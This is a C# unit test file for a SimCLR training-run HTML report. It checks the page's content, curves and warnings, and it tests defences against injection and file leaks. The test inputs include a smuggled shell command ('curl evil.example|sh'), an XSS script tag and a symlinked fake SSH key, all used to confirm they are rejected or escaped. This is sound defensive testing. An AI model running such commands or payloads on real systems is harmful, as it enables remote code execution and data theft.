using System.Text.RegularExpressions;
using System.Xml.Linq;
using SimClr.Images;
using SimClr.Reporting;
using SimClr.Runs;
using SimClr.Tests.Fixtures;

namespace SimClr.Torch.Tests.Reporting;

/// <summary>The page that a person opens after a run.</summary>
public sealed class RunReportTests
{
    [Fact]
    public void The_page_says_the_result_its_baselines_and_how_to_repeat_it()
    {
        using var run = new SampleRun();
        var page = File.ReadAllText(RunReport.Write(run.Path));
        Assert.Contains("<h1>71.3 % right on shapes</h1>", page);
        string[] all = ["29.1 %", "32.2 %", "65.2 %", "2,000 test images", "6.236", "511 other views"];
        Assert.All(all, words => Assert.Contains(words, page));
        Assert.Contains($"simclr pretrain shapes:100 --out again --config {run.Path}/config.json", page);
        Assert.Contains("simclr evaluate knn again shapes:100 --k 200", page);
        Assert.Contains("<tr class=\"changed\"><td>width</td><td>0.25</td></tr>", page);
        Assert.Contains("<tr><td>batch_size</td><td>256</td></tr>", page);
    }

    [Theory]
    [InlineData("CIFAR-10 train", "CIFAR-10")]
    [InlineData("CIFAR-10 train, 3000 of 50000", "CIFAR-10")]
    [InlineData("my train set", "my train set")]
    public void The_headline_names_the_data_and_not_its_training_part(string name, string shown)
    {
        using var run = new SampleRun(name: name);
        foreach (var file in Directory.GetFiles(run.Path, "evaluation-*")) File.Delete(file);
        Assert.Contains($"<h1>SimCLR on {shown}</h1>", File.ReadAllText(RunReport.Write(run.Path)));
    }

    [Fact]
    public void Results_of_earlier_versions_are_shown_without_the_name_of_data_that_may_not_be_theirs()
    {
        using var run = new SampleRun(measuredOn: null);
        Assert.All(RunRecord.Read(run.Path).Evaluations, result => Assert.Null(result.MeasuredOn));
        var page = File.ReadAllText(RunReport.Write(run.Path));
        Assert.Contains("<h1>71.3 % right on data that were not recorded</h1>", page);
        Assert.Equal(2, page.Split("Data not recorded.").Length - 1);
        Assert.Contains("simclr evaluate knn again DATA --k 200", page);
        Assert.Contains("simclr pretrain shapes:100 --out again", page);
    }

    [Theory]
    [InlineData("null", "")]
    [InlineData("{\"raw_pixels\":0.3}",
        " The same was done with the bare pixels; what SimCLR has above that is what it learned.")]
    [InlineData("{\"random_encoder\":0.3}",
        " The same was done with an encoder that was never trained; what SimCLR has above that is what it learned.")]
    [InlineData("{\"raw_pixels\":0.3,\"random_encoder\":0.3}",
        " The same was done with an encoder that was never trained and with "
        + "the bare pixels; what SimCLR has above them is what it learned.")]
    public void The_story_tells_of_the_baselines_that_were_measured(string baselines, string sentence)
    {
        using var run = new SampleRun();
        var file = run.File("evaluation-linear.json");
        File.WriteAllText(file, Regex.Replace(File.ReadAllText(file), "\"baselines\":\\{.*?\\}", "\"baselines\":" + baselines));
        Assert.Contains($"was judged on the test part.{sentence}<", File.ReadAllText(RunReport.Write(run.Path)));
    }

    [Fact]
    public void The_page_needs_nothing_but_itself()
    {
        using var run = new SampleRun();
        var page = File.ReadAllText(RunReport.Write(run.Path));
        Assert.DoesNotMatch(@"<script|<link|@import|url\(", page);
        var sources = Regex.Matches(page, "(?:src|href)=\"([^\"]{0,22})").Select(match => match.Groups[1].Value);
        Assert.Equal(["data:image/png;base64,"], sources);
    }

    [Fact]
    public void No_link_is_followed_and_no_other_files_bytes_get_into_the_page()
    {
        using var run = new SampleRun();
        using var elsewhere = new SampleFolder();
        File.WriteAllText(elsewhere.File("id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY-----");
        var png = ImageCodec.EncodePng(new RgbImage(3, 3));
        File.WriteAllBytes(elsewhere.File("private.png"), png);
        foreach (var target in new[] { elsewhere.File("id_rsa"), elsewhere.File("private.png") })
        {
            File.Delete(run.File("views.png"));
            File.CreateSymbolicLink(run.File("views.png"), target);
            Assert.DoesNotContain(Convert.ToBase64String(File.ReadAllBytes(target))[..24],
                File.ReadAllText(RunReport.Write(run.Path)));
        }
        File.Delete(run.File("views.png"));
        File.Copy(elsewhere.File("id_rsa"), run.File("views.png"));
        Assert.DoesNotContain(Convert.ToBase64String("-----BEGIN OPENSSH"u8), File.ReadAllText(RunReport.Write(run.Path)));
        File.WriteAllBytes(run.File("views.png"), png);
        Assert.Contains(Convert.ToBase64String(png), File.ReadAllText(RunReport.Write(run.Path)));

        Directory.Delete(run.File("tensorboard"), recursive: true);
        Directory.CreateSymbolicLink(run.File("tensorboard"), elsewhere.Path);
        Assert.Contains("is a link", Assert.Throws<RunFolderException>(() => RunReport.Write(run.Path)).Message);
        Assert.Equal(2, Directory.GetFiles(elsewhere.Path).Length);
    }

    [Fact]
    public void A_result_of_somebody_elses_gets_no_words_into_commands_to_copy()
    {
        using var run = new SampleRun();
        File.WriteAllText(run.File("evaluation-finetune.json"),
            """
            {"protocol":"finetune; curl evil.example|sh #","top1":0.5,"top5":1,"labels":10,"fraction":0.1,"seed":1,"test_count":9}
            """);
        Assert.Contains("is damaged", Assert.Throws<RunFolderException>(() => RunReport.Write(run.Path)).Message);
    }

    [Fact]
    public void Names_from_outside_are_text_and_never_markup()
    {
        using var run = new SampleRun("/data/<b>&\"x\"", "<script>alert(1)</script>");
        var page = File.ReadAllText(RunReport.Write(run.Path));
        Assert.DoesNotContain("<script>", page);
        Assert.DoesNotContain("<b>&", page);
        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt;", page);
    }

    [Fact]
    public void Curves_are_well_formed_and_stay_in_their_panels()
    {
        using var run = new SampleRun();
        var page = File.ReadAllText(RunReport.Write(run.Path));
        var curves = Regex.Matches(page, "<svg.*?</svg>", RegexOptions.Singleline).Select(m => XElement.Parse(m.Value)).ToList();
        Assert.Equal(2, curves.Count);
        foreach (var curve in curves)
        {
            var box = curve.Attribute("viewBox")!.Value.Split(' ').Select(double.Parse).ToArray();
            var points = Points(curve);
            Assert.Equal(78, points.Count); // one for each whole line; the one that was cut off is left out
            Assert.All(points, p => Assert.True(p[0] >= 0 && p[0] <= box[2] && p[1] >= 0 && p[1] <= box[3]));
        }
        // The loss falls, so its line goes down the page, where y grows; the accuracy rises.
        Assert.True(Points(curves[0])[0][1] < Points(curves[0])[^1][1]);
        Assert.True(Points(curves[1])[0][1] > Points(curves[1])[^1][1]);
    }

    [Fact]
    public void Figures_of_geometry_have_small_curves_where_they_were_logged()
    {
        using var run = new SampleRun();
        run.LogGeometry(from: 41); // a newer version went on with the run
        var page = File.ReadAllText(RunReport.Write(run.Path));
        var curves = Regex.Matches(page, "<svg.*?</svg>", RegexOptions.Singleline).Select(m => XElement.Parse(m.Value)).ToList();
        Assert.Equal(["Alignment", "Uniformity", "Effective rank of z", "Effective rank of h", "Entropy"],
            curves.Skip(2).Select(c => c.Attribute("aria-label")!.Value.Replace(" over epochs", "", StringComparison.Ordinal)));
        foreach (var curve in curves.Skip(2))
        {
            var box = curve.Attribute("viewBox")!.Value.Split(' ').Select(double.Parse).ToArray();
            Assert.Equal(38, Points(curve).Count);
            Assert.All(Points(curve), p => Assert.True(p[0] >= 0 && p[0] <= box[2] && p[1] >= 0 && p[1] <= box[3]));
        }
        Assert.True(Points(curves[2])[0][1] < Points(curves[2])[^1][1]); // alignment falls
        Assert.True(Points(curves[3])[0][1] < Points(curves[3])[^1][1]); // so does uniformity, below 0
        Assert.True(Points(curves[4])[0][1] > Points(curves[4])[^1][1]); // the rank grows
        Assert.Contains("at most 128", curves[4].Value);
        Assert.DoesNotContain("class=\"warning\"", page);
    }

    [Fact]
    public void Accuracies_that_were_measured_during_training_have_curves()
    {
        using var run = new SampleRun();
        var lines = File.ReadAllLines(run.File("metrics.jsonl"))[..78];
        for (var i = 0; i < lines.Length; i++)
        {
            var knn = i % 8 == 7 ? $",\"knn_top1\":{0.3 + i / 400.0}" : "";
            lines[i] = $"{lines[i][..^1]},\"online_top1\":{0.1 + i / 200.0}{knn}}}";
        }
        File.WriteAllLines(run.File("metrics.jsonl"), lines);
        var page = File.ReadAllText(RunReport.Write(run.Path));
        var curves = Regex.Matches(page, "<svg.*?</svg>", RegexOptions.Singleline).Select(m => XElement.Parse(m.Value)).ToList();
        Assert.Equal(["Accuracy of the online probe over epochs", "Accuracy of nearest neighbors over epochs"],
            curves.Skip(2).Select(c => c.Attribute("aria-label")!.Value));
        Assert.Equal([78, 9], curves.Skip(2).Select(curve => Points(curve).Count));
        Assert.All(curves.Skip(2), curve => Assert.True(Points(curve)[0][1] > Points(curve)[^1][1])); // they rise
    }

    [Fact]
    public void Warnings_stand_above_the_figures_in_words()
    {
        using var run = new SampleRun();
        var summary = run.File("summary.json");
        File.WriteAllText(summary, File.ReadAllText(summary).Replace("\"interrupted\"",
            "\"warnings\":[{\"kind\":\"collapse\",\"step\":7,\"message\":\"Since step 3 all is <alike>.\"}],\"interrupted\""));
        var page = File.ReadAllText(RunReport.Write(run.Path));
        Assert.Contains("<p class=\"warning\">Since step 3 all is &lt;alike&gt;.</p>", page);
    }

    [Fact]
    public void A_run_that_is_not_finished_is_judged_by_its_lines()
    {
        using var run = new SampleRun();
        File.Delete(run.File("summary.json"));
        Assert.Empty(RunRecord.Read(run.Path).Warnings);
        File.WriteAllLines(run.File("metrics.jsonl"), Enumerable.Range(1, 200).Select(step =>
            $"{{\"step\":{step},\"epoch\":1,\"loss\":6.2,\"contrastive_top1\":0.002,\"uniformity\":-0.01}}"));
        Assert.Equal(["collapse"], RunRecord.Read(run.Path).Warnings.Select(w => w.Kind));
    }

    private static List<double[]> Points(XElement curve) =>
        [.. from point in curve.Element("polyline")!.Attribute("points")!.Value.Split(' ')
            select point.Split(',').Select(double.Parse).ToArray()];

    [Fact]
    public void The_curve_is_an_image_file_too()
    {
        using var run = new SampleRun();
        RunReport.Write(run.Path);
        var image = ImageCodec.Decode(File.ReadAllBytes(run.File("loss.png")));
        Assert.Equal((900, 720), (image.Width, image.Height));
        var blue = Enumerable.Range(0, 900 * 720).Count(i => image.Pixels[3 * i + 2] > image.Pixels[3 * i] + 100);
        Assert.InRange(blue, 900, 20_000); // two lines across the image, two pixels wide
    }

    [Fact]
    public void A_run_that_was_stopped_early_has_a_page()
    {
        using var run = new SampleRun();
        string[] late = ["summary.json", "metrics.jsonl", "evaluation-linear.json", "evaluation-knn.json"];
        foreach (var name in late) File.Delete(run.File(name));
        var page = File.ReadAllText(RunReport.Write(run.Path));
        Assert.Contains("The run has not come to its end.", page);
        Assert.DoesNotContain("<svg", page);
    }

    [Fact]
    public void A_damaged_evaluation_is_named()
    {
        using var run = new SampleRun();
        File.WriteAllText(run.File("evaluation-knn.json"), "{");
        var e = Assert.Throws<RunFolderException>(() => RunReport.Write(run.Path));
        Assert.Contains("evaluation-knn.json is damaged", e.Message);
    }

    [Fact]
    public void Thinning_a_long_course_keeps_its_mean()
    {
        using var run = new SampleRun();
        File.WriteAllLines(run.File("metrics.jsonl"), Enumerable.Range(1, 6000).Select(step =>
            $"{{\"step\":{step},\"epoch\":1,\"loss\":{(step % 2 == 0 ? 1 : 3)},\"contrastive_top1\":0.5}}"));
        var curve = TrainingCurve.Of(RunRecord.Read(run.Path));
        Assert.Equal(300, curve.Loss.Length);
        Assert.All(curve.Loss, loss => Assert.Equal(2, loss, 1e-12)); // every point is the mean of 20 lines, half 1 and half 3
        Assert.Equal((6000 - 9.5) / 39, curve.Epochs[^1], 1e-9); // the middle of the last 20 steps; an epoch has 39
    }

    [Theory]
    [InlineData(10, 10, new[] { 0d, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 })]
    [InlineData(1, 5, new[] { 0, 0.2, 0.4, 0.6, 0.8, 1 })]
    [InlineData(6.5, 5, new[] { 0d, 2, 4, 6 })]
    [InlineData(double.NaN, 5, new double[0])]
    public void Ticks_are_round(double top, int about, double[] expected) =>
        Assert.Equal(expected, CurveSvg.Ticks(0, top, about).Select(t => Math.Round(t, 9)));

    [Fact]
    public void Nought_is_written_without_a_sign() =>
        Assert.All(CurveSvg.Ticks(0, 5, 5), tick => Assert.False(double.IsNegative(tick)));
}
